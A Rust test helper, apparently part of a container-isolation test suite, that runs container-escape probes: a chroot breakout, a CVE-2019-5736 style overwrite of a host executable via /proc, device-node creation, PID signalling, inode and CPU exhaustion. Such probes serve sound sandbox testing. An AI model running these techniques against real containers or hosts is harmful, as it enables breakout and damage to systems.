//! What a program does that wants out of its container: the attacks that need several steps. Those of a single system
//! call are applets of `testbox`. Each prints what it got, or the number of the error that stopped it.

use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;
use std::time::{Duration, Instant};

fn main() {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["shm-put", key] => shm_put(key.parse().expect("a key is a number")),
        ["shm-get", key] => println!("{}", show(shm(key.parse().expect("a key is a number"), 0).map(drop))),
        ["mq-put", name] => println!("{}", show(queue(name, libc::O_CREAT | libc::O_RDWR))),
        ["mq-get", name] => println!("{}", show(queue(name, libc::O_RDWR))),
        ["chroot-escape", marker] => chroot_escape(marker),
        ["kill-range", last] => kill_range(last.parse().expect("a process id is a number")),
        ["inodes", folder] => inodes(folder),
        ["catch-exe", seconds] => catch_exe(Duration::from_secs(seconds.parse().expect("seconds are a number"))),
        ["write", path, text] => println!("{}", show(overwrite(path, text))),
        ["mknod", path, kind, major, minor] => {
            let number = |text: &str| text.parse::<u32>().expect("device numbers are numbers");
            println!("{}", show(mknod(path, kind, number(major), number(minor))));
        }
        ["stat", path] => println!("{}", show(fs::symlink_metadata(path).map(drop))),
        ["listen-unix", path] => {
            let _listener = std::os::unix::net::UnixListener::bind(path).expect("the socket can be made");
            println!("listening");
            std::thread::sleep(Duration::from_hours(1));
        }
        ["abstract", name] => println!("{}", show(abstract_socket(name))),
        ["burn", seconds, threads] => burn(
            Duration::from_secs(seconds.parse().expect("seconds are a number")),
            threads.parse().expect("a count is a number"),
        ),
        ["descriptors"] => descriptors(),
        ["beat"] => beat(),
        _ => {
            eprintln!("hostile: unknown attack {words:?}");
            std::process::exit(2);
        }
    }
}

/// `ok`, or the error by its number, which means the same everywhere.
fn show(result: io::Result<()>) -> String {
    match result {
        Ok(()) => "ok".to_owned(),
        Err(error) => match error.raw_os_error() {
            Some(libc::EPERM) => "EPERM".to_owned(),
            Some(libc::EACCES) => "EACCES".to_owned(),
            Some(libc::ENOENT) => "ENOENT".to_owned(),
            Some(libc::EROFS) => "EROFS".to_owned(),
            Some(libc::ENOSPC) => "ENOSPC".to_owned(),
            Some(libc::ETXTBSY) => "ETXTBSY".to_owned(),
            Some(libc::ECONNREFUSED) => "ECONNREFUSED".to_owned(),
            _ => error.to_string(),
        },
    }
}

fn check(result: impl Into<i64>) -> io::Result<i64> {
    let result = result.into();
    if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) }
}

fn shm(key: i32, flags: i32) -> io::Result<i32> {
    // SAFETY: plain integers.
    check(unsafe { libc::shmget(key, 4096, flags | 0o666) }).map(|id| id as i32)
}

fn shm_put(key: i32) {
    println!("{}", show(shm(key, libc::IPC_CREAT).map(drop)));
    std::thread::sleep(Duration::from_hours(1));
}

fn queue(name: &str, flags: i32) -> io::Result<()> {
    let name = CString::new(name).expect("a name has no zero byte");
    // SAFETY: the name is NUL-terminated; a null attribute means the default.
    check(unsafe { libc::mq_open(name.as_ptr(), flags, 0o666, std::ptr::null_mut::<libc::mq_attr>()) }).map(drop)
}

/// The classic way out of a chroot: keep the old root open, enter a deeper one, walk up from the old.
fn chroot_escape(marker: &str) {
    let result = (|| -> io::Result<()> {
        let root = File::open("/")?;
        let inode = fs::metadata("/")?.ino();
        fs::create_dir_all("/tmp/deeper")?;
        std::os::unix::fs::chroot("/tmp/deeper")?;
        // SAFETY: the descriptor is open.
        check(unsafe { libc::fchdir(root.as_raw_fd()) })?;
        for _ in 0..64 {
            std::env::set_current_dir("..")?;
        }
        std::os::unix::fs::chroot(".")?;
        println!("same root: {}", fs::metadata("/")?.ino() == inode);
        println!("marker: {}", show(fs::metadata(marker).map(drop)));
        println!("shadow: {}", show(fs::metadata("/etc/shadow").map(drop)));
        Ok(())
    })();
    println!("{}", show(result));
}

/// Signals every number but its own and its parent's.
fn kill_range(last: i32) {
    // SAFETY: these take no arguments.
    let (own, parent) = unsafe { (libc::getpid(), libc::getppid()) };
    let mut reached = Vec::new();
    for pid in 2..=last {
        // SAFETY: signal 0 only asks.
        if pid != own && pid != parent && unsafe { libc::kill(pid, 0) } == 0 {
            reached.push(pid);
        }
    }
    println!("reached {reached:?}");
}

/// Empty files until something stops it.
fn inodes(folder: &str) {
    for number in 0_u64.. {
        let made = OpenOptions::new().create_new(true).write(true).open(Path::new(folder).join(number.to_string()));
        if let Err(error) = made {
            println!("made {number} then {}", show(Err(error)));
            return;
        }
    }
}

fn overwrite(path: &str, text: &str) -> io::Result<()> {
    OpenOptions::new().write(true).open(path)?.write_all(text.as_bytes())
}

fn mknod(path: &str, kind: &str, major: u32, minor: u32) -> io::Result<()> {
    let path = CString::new(path).expect("a path has no zero byte");
    let kind = if kind == "b" { libc::S_IFBLK } else { libc::S_IFCHR };
    // SAFETY: the path is NUL-terminated.
    check(unsafe { libc::mknod(path.as_ptr(), kind | 0o666, libc::makedev(major, minor)) }).map(drop)
}

/// Lies in wait for a process whose program is not of this container, holds that program by descriptor, and overwrites
/// it as soon as nobody runs it (CVE-2019-5736).
fn catch_exe(patience: Duration) {
    let own: Vec<u64> = ["/proc/self/exe", "/bin/sh", "/usr/bin/sleep"]
        .iter()
        .filter_map(|path| fs::metadata(path).ok().map(|meta| meta.ino()))
        .collect();
    let deadline = Instant::now() + patience;
    println!("waiting");
    while Instant::now() < deadline {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let path = entry.path().join("exe");
            let Ok(meta) = fs::metadata(&path) else { continue };
            if own.contains(&meta.ino()) {
                continue;
            }
            let Ok(held) = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&path) else { continue };
            let again = format!("/proc/self/fd/{}", held.as_raw_fd());
            println!("caught {}", fs::read_link(&again).unwrap_or_default().display());
            let result = loop {
                match overwrite(&again, "#!/bin/sh\n") {
                    Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {}
                    result => break result,
                }
            };
            println!("overwrite {}", show(result));
            return;
        }
    }
    println!("caught nothing");
}

/// Connects to an abstract Unix socket, which belongs to a network namespace and to no file system.
fn abstract_socket(name: &str) -> io::Result<()> {
    use std::os::linux::net::SocketAddrExt;
    let address = std::os::unix::net::SocketAddr::from_abstract_name(name)?;
    std::os::unix::net::UnixStream::connect_addr(&address).map(drop)
}

/// Keeps threads busy for a time and says how much CPU the process got, in percent of one.
fn burn(time: Duration, threads: usize) {
    let start = Instant::now();
    let before = cpu_time();
    let spin = || {
        while start.elapsed() < time {
            std::hint::spin_loop();
        }
    };
    std::thread::scope(|scope| (0..threads).for_each(|_| drop(scope.spawn(spin))));
    let used = cpu_time().saturating_sub(before);
    println!("percent {:.2}", 100.0 * used.as_secs_f64() / start.elapsed().as_secs_f64());
}

/// User and system time of this process, all threads together.
fn cpu_time() -> Duration {
    let mut time = libc::timespec { tv_sec: 0, tv_nsec: 0 };
    // SAFETY: time is valid for writing.
    unsafe { libc::clock_gettime(libc::CLOCK_PROCESS_CPUTIME_ID, &raw mut time) };
    Duration::new(time.tv_sec as u64, time.tv_nsec as u32)
}

/// Numbers of the open descriptors, asked of the kernel one by one, as /proc may be told to lie.
fn descriptors() {
    // SAFETY: F_GETFD on any number only asks.
    let open: Vec<i32> = (0..65_536).filter(|fd| unsafe { libc::fcntl(*fd, libc::F_GETFD) } >= 0).collect();
    println!("open {open:?}");
}

/// A line ten times a second, for ever: the neighbour that must not notice.
fn beat() {
    for number in 0_u64.. {
        println!("beat {number}");
        std::thread::sleep(Duration::from_millis(100));
    }
}
